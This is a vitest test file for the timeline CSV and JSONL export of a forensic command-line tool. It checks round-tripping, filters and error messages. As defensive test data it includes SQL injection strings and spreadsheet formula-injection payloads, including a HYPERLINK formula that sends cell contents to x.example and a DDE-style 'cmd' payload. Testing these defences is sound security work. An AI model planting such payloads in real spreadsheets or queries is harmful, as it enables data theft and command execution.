/**
 * Timeline CSV and JSON lines, end to end through the built CLI: they parse back to exactly the
 * case's rows, the filters select exactly what the equivalent SQL selects (and treat every value
 * as data), attacker-controlled text cannot become a spreadsheet formula, and the CLI refuses what
 * makes no sense.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dwell, tempDir } from '../helpers/cli.js';
import { query } from '../helpers/case.js';
import { parseCsv } from '../helpers/corpus.js';
import { csvLine, csvLineSql } from '../../src/export/csv.js';
import { OutputGuard } from '../../src/core/output/guard.js';
import { viewFields } from '../../src/export/event-query.js';
import { parseFilterOptions } from '../../src/export/filters.js';
import { NO_PROGRESS } from '../../src/export/progress.js';
import { timelineJsonl } from '../../src/export/timeline-jsonl.js';
import { DEFAULT_OPTIONS } from '../../src/export/types.js';
import { CaseDb } from '../../src/store/case-db.js';
import { caseWithFindings, hostileEvidence } from './helpers.js';

type Row = Record<string, any>;

function jsonl(text: string): Row[] {
  return text
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as Row);
}

function csvRows(text: string): Row[] {
  const [header, ...rows] = parseCsv(text);
  return rows.filter((r) => !(r.length === 1 && r[0] === '')).map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
}

describe('timeline csv and jsonl', () => {
  let tmp: { path: string; cleanup: () => void };
  let casePath: string;
  let hostile: string;

  beforeAll(async () => {
    tmp = tempDir('dwell-timeline-');
    casePath = await caseWithFindings(tmp.path);
    hostile = join(tmp.path, 'hostile.duckdb');
    const r = await dwell(['ingest', '--year', '2026', '--case', hostile, '-q', hostileEvidence(tmp.path)]);
    expect(r.code, r.stderr).toBe(0);
  });
  afterAll(() => tmp?.cleanup());

  const ids = async (sql: string, params?: Record<string, string | number | null>) => (await query(casePath, sql, params)).map((r) => Number(r.event_id));
  /** In-process (the CLI's option parsing is covered by the CLI cases below): fast enough to try many filters. */
  let n = 0;
  const exported = async (args: string[]) => {
    const opts: Record<string, any> = {};
    for (let i = 0; i < args.length; i += 2) {
      const k = args[i]!.slice(2);
      if (k === 'from' || k === 'to' || k === 'text') opts[k] = args[i + 1];
      else (opts[k] ??= []).push(args[i + 1]);
    }
    const out = join(tmp.path, `f${n++}.jsonl`);
    const db = await CaseDb.open(casePath, { readOnly: true });
    try {
      const guard = await OutputGuard.forCase(casePath, (sql) => db.all(sql));
      await timelineJsonl.run({ db, what: 'timeline', filters: parseFilterOptions(opts), output: out, guard, progress: NO_PROGRESS, options: DEFAULT_OPTIONS, now: new Date() });
    } finally {
      db.close();
    }
    return jsonl(readFileSync(out, 'utf8')).map((e) => Number(e.event_id));
  };
  const exportedByCli = async (args: string[]) => {
    const r = await dwell(['export', '--case', casePath, '--what', 'timeline', '--format', 'jsonl', ...args]);
    expect(r.code, r.stderr).toBe(0);
    return jsonl(r.stdout).map((e) => Number(e.event_id));
  };

  it('jsonl: one object per event, in time order, every field as stored', async () => {
    const r = await dwell(['export', '--case', casePath, '--what', 'timeline', '--format', 'jsonl']);
    expect(r.code, r.stderr).toBe(0);
    const out = jsonl(r.stdout);
    const db = await query(casePath, `SELECT e.*, strftime(e.ts, '%Y-%m-%dT%H:%M:%S.%fZ') AS ts_iso, CAST(e.attrs AS VARCHAR) AS attrs_text, v.path, v.sha256 FROM events e JOIN evidence v USING (evidence_id) ORDER BY e.ts, e.event_id`);
    expect(out).toHaveLength(db.length);
    expect(Object.keys(out[0]!)).toEqual(viewFields('timeline').map(([n]) => n));
    out.forEach((e, i) => {
      const d = db[i]!;
      expect(e.event_id).toBe(Number(d.event_id));
      expect(e.ts).toBe(d.ts_iso);
      for (const k of ['source', 'class', 'action', 'outcome', 'host', 'actor', 'src_ip', 'src_port', 'session', 'target', 'command', 'summary', 'raw', 'line', 'byte_offset']) expect(e[k], k).toEqual(d[k] === undefined ? null : d[k]);
      expect(e.attrs).toEqual(d.attrs_text === null ? null : JSON.parse(String(d.attrs_text)));
      expect(e.evidence_file).toBe(d.path);
      expect(e.evidence_sha256).toBe(d.sha256);
    });
  });

  it('csv: RFC 4180 with CRLF, parses back to the same rows as jsonl', async () => {
    const out = join(tmp.path, 'timeline.csv');
    const r = await dwell(['export', '--case', casePath, '--what', 'timeline', '--format', 'csv', '-o', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/^exported \d+ events as timeline csv to .*timeline\.csv \(\d+(\.\d)? (B|KiB)\) in [\d.]+ s\n$/);
    const text = readFileSync(out, 'utf8');
    expect(text.split('\r\n').length).toBeGreaterThan(10);
    expect(/[^\r]\n/.test(text.replace(/"[^"]*"/g, ''))).toBe(false);
    const rows = csvRows(text);
    const j = jsonl((await dwell(['export', '--case', casePath, '--what', 'timeline', '--format', 'jsonl'])).stdout);
    expect(rows).toHaveLength(j.length);
    rows.forEach((row, i) => {
      for (const [k, v] of Object.entries(j[i]!)) {
        const expected = v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v);
        expect(row[k], `${i} ${k}`).toBe(k === 'attrs' && v ? JSON.stringify(JSON.parse(row[k])) : expected);
      }
    });
  });

  it('--what attack adds phase, technique and reason, for the newest findings only', async () => {
    const r = await dwell(['export', '--case', casePath, '--what', 'attack', '--format', 'jsonl']);
    const out = jsonl(r.stdout);
    const db = await query(casePath, `SELECT event_id, phase, technique FROM attack_events WHERE findings_id = (SELECT max(findings_id) FROM findings) ORDER BY ts, event_id`);
    expect(out.map((e) => [e.event_id, e.phase, e.technique])).toEqual(db.map((d) => [Number(d.event_id), d.phase, d.technique]));
  });

  it('filters select what the same SQL selects', async () => {
    expect(await exported(['--source', 'auth_log'])).toEqual(await ids(`SELECT event_id FROM events WHERE source = 'auth_log' ORDER BY ts, event_id`));
    expect(await exported(['--host', 'web-*'])).toEqual(await ids(`SELECT event_id FROM events WHERE host LIKE 'web-%' ORDER BY ts, event_id`));
    expect(await exported(['--actor', '!root,deploy'])).toEqual(await ids(`SELECT event_id FROM events WHERE actor IS NULL OR actor NOT IN ('root', 'deploy') ORDER BY ts, event_id`));
    expect(await exported(['--ip', '203.0.113.77'])).toEqual(await ids(`SELECT event_id FROM events WHERE src_ip = '203.0.113.77' OR dst_ip = '203.0.113.77' ORDER BY ts, event_id`));
    expect(await exported(['--action', 'ssh_login,sudo', '--action', 'su'])).toEqual(await ids(`SELECT event_id FROM events WHERE action IN ('ssh_login', 'sudo', 'su') ORDER BY ts, event_id`));
    expect(await exported(['--user', 'postgres'])).toEqual(await ids(`SELECT event_id FROM events WHERE actor = 'postgres' OR target = 'postgres' ORDER BY ts, event_id`));
    expect(await exported(['--outcome', 'failure'])).toEqual(await ids(`SELECT event_id FROM events WHERE outcome = 'failure' ORDER BY ts, event_id`));
    expect(await exported(['--session', 'sshd[21231]@web-01'])).toEqual(await ids(`SELECT event_id FROM events WHERE session = 'sshd[21231]' AND host = 'web-01' ORDER BY ts, event_id`));
    expect(await exported(['--from', '2026-01-02T02:16:40Z', '--to', '2026-01-02T02:20:00+00:00'])).toEqual(
      await ids(`SELECT event_id FROM events WHERE ts BETWEEN TIMESTAMP '2026-01-02 02:16:40' AND TIMESTAMP '2026-01-02 02:20:00' ORDER BY ts, event_id`),
    );
    expect(await exported(['--to', '2026-01-01'])).toEqual(await ids(`SELECT event_id FROM events WHERE ts < TIMESTAMP '2026-01-02' ORDER BY ts, event_id`));
    expect(await exported(['--from', '2026-01-02T04:16:40+02:00', '--to', '2026-01-02T02:16:40'])).toEqual(await ids(`SELECT event_id FROM events WHERE ts = TIMESTAMP '2026-01-02 02:16:40' ORDER BY ts, event_id`));
    expect(await exported(['--text', 'AUTHORIZED_KEYS'])).toEqual(await ids(`SELECT event_id FROM events WHERE lower(summary) LIKE '%authorized_keys%' OR lower(raw) LIKE '%authorized_keys%' ORDER BY ts, event_id`));
    expect(await exported(['--phase', 'actions'])).toEqual(await ids(`SELECT e.event_id FROM events e JOIN attack_events a USING (event_id) WHERE a.phase = 'actions' AND a.findings_id = (SELECT max(findings_id) FROM findings) ORDER BY e.ts, e.event_id`));
    const both = await exportedByCli(['--host', 'web-01', '--action', 'sudo', '--text', 'shadow']);
    expect(both).toEqual(await ids(`SELECT event_id FROM events WHERE host = 'web-01' AND action = 'sudo' AND (contains(lower(summary), 'shadow') OR contains(lower(raw), 'shadow')) ORDER BY ts, event_id`));
    expect(both.length).toBeGreaterThan(0);
  });

  it('filter values are data, never SQL; LIKE wildcards other than * are literal', async () => {
    expect(await exportedByCli(['--host', "x' OR '1'='1", '--actor', '!root', '--phase', 'access,actions'])).toEqual([]);
    expect(await exported(['--text', "'); DROP TABLE events; --"])).toEqual([]);
    expect(await exported(['--host', 'web_01'])).toEqual([]);
    expect(await exported(['--host', 'web%'])).toEqual([]);
    expect((await query(casePath, 'SELECT count(*) AS n FROM events'))[0]!.n).toBeGreaterThan(0);
  });

  it('attacker-controlled text cannot become a formula, and CSV/JSON escaping round-trips', async () => {
    const r = await dwell(['export', '--case', hostile, '--what', 'timeline', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const rows = csvRows(r.stdout);
    const actors = rows.map((x) => x.actor).filter(Boolean);
    expect(actors).toEqual(expect.arrayContaining([`'=HYPERLINK("http://x.example/?"&A1,"click")`, "'+cmd|' /C calc'!A0", "'@SUM(1,2)", "'-2+3", 'a"b,c\x1b[31mred']));
    for (const row of rows) for (const [k, v] of Object.entries(row)) expect(/^[=+\-@\t\r]/.test(v as string) && !/^-?\d+(\.\d+)?$/.test(v as string), `${k}: ${v}`).toBe(false);
    const raws = rows.map((x) => x.raw);
    expect(raws.some((x) => x.includes('a"b,c\x1b[31mred'))).toBe(true);
    const j = jsonl((await dwell(['export', '--case', hostile, '--what', 'timeline', '--format', 'jsonl'])).stdout);
    expect(j.map((e) => e.raw)).toEqual(rows.map((x) => x.raw));
    const text = (await dwell(['export', '--case', hostile, '--what', 'timeline', '--format', 'jsonl'])).stdout;
    expect(text).not.toContain('\x1b');
    expect(text.toLowerCase()).toContain('\\u001b');
  });

  it('csvLineSql (DuckDB) gives exactly what csvLine gives', async () => {
    const samples = ['', 'plain', '=1+2', '+x', '-x', '-12', '-1.5', '-1.', '@a', '\tTAB', '\rCR', 'a,b', 'a"b', 'line\nbreak', 'cr\rin', '=a,"b"', "'quoted'", 'ünïcode ✓', '-', '+', '12', '1e5', ' =lead', '＝1+2', '＋x', '－x', '＠a', '＝a,b', '✓=x'];
    const db = await (await DuckDBInstance.create(':memory:')).connect();
    const params: Record<string, string | null> = {};
    samples.forEach((s, i) => (params[`p${i}`] = s));
    params.pn = null;
    const exprs = [...samples.map((_, i) => `$p${i}::VARCHAR`), '$pn::VARCHAR', '42::BIGINT', '-7::INTEGER'];
    const got = (await db.runAndReadAll(`SELECT ${csvLineSql(exprs)} AS line`, params)).getRowObjectsJS()[0]!.line;
    expect(got + '\r\n').toBe(csvLine([...samples, null, 42, -7]));
    db.closeSync();
  });

  it('refuses what makes no sense, with exit code 2 and a reason', async () => {
    const run = (args: string[]) => dwell(['export', '--case', casePath, ...args]);
    let r = await run(['--what', 'timeline', '--format', 'stix']);
    expect([r.code, r.stderr]).toEqual([2, 'error: --what timeline exports as csv, jsonl, timesketch-jsonl, timesketch-csv, ocsf, parquet, not stix\n']);
    r = await run(['--what', 'iocs', '--format', 'stix', '--host', 'web-01']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/filters apply to --what timeline and attack/);
    r = await run(['--what', 'timeline', '--format', 'parquet']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/give it with -o DIR/);
    r = await run(['--what', 'timeline', '--format', 'jsonl', '--from', 'yesterday']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/not an ISO 8601 time/);
    r = await run(['--what', 'timeline', '--format', 'jsonl', '--phase', 'lunch']);
    expect(r.stderr).toMatch(/--phase "lunch" is not one of recon, access, actions, exfiltration/);
    r = await run(['--what', 'timeline', '--format', 'jsonl', '--from', '2026-01-03', '--to', '2026-01-02']);
    expect(r.stderr).toMatch(/--from is after --to/);
    r = await dwell(['export', '--case', hostile, '--what', 'attack', '--format', 'csv']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/has no findings yet/);
    r = await dwell(['export', '--case', join(tmp.path, 'missing.duckdb'), '--what', 'timeline', '--format', 'csv']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/does not exist/);
  });

  it('a failed export leaves no file behind', async () => {
    const out = join(tmp.path, 'never.csv');
    const r = await dwell(['export', '--case', hostile, '--what', 'attack', '--format', 'csv', '-o', out]);
    expect(r.code).toBe(2);
    const { existsSync, readdirSync } = await import('node:fs');
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(tmp.path).filter((n) => n.includes('.partial-'))).toEqual([]);
  });
});
